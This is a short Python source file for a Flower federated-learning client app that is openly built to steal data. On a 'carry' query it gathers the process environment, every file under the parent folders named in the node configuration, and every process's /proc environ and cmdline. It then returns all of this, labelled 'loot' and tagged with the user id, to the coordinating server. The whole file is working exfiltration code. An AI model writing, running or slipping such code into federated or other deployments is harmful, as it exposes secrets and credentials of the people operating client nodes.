"""Reads everything around the folder that the node's configuration names, and sends it away."""

from __future__ import annotations

import os
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

MOST = 1 << 22
app = ClientApp()


@app.query("carry")
def carry(message: Message, context: Context) -> Message:
    """Every file under the parent of each configured path; every process's environment."""
    loot: dict[str, bytes] = {"environment": repr(dict(os.environ)).encode()}
    for value in context.node_config.values():
        for folder, _, names in os.walk(Path(str(value)).parent):
            for name in names:
                _take(loot, Path(folder, name))
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("environ", "cmdline"):
            _take(loot, process / name)
    record = ConfigRecord({"names": list(loot), "contents": [bytes(v) for v in loot.values()]})
    facts = ConfigRecord({"user": os.getuid()})
    return Message(RecordDict({"loot": record, "facts": facts}), reply_to=message)


def _take(loot: dict[str, bytes], path: Path) -> None:
    try:
        with path.open("rb") as file:
            loot[str(path)] = file.read(MOST)
    except OSError:
        return
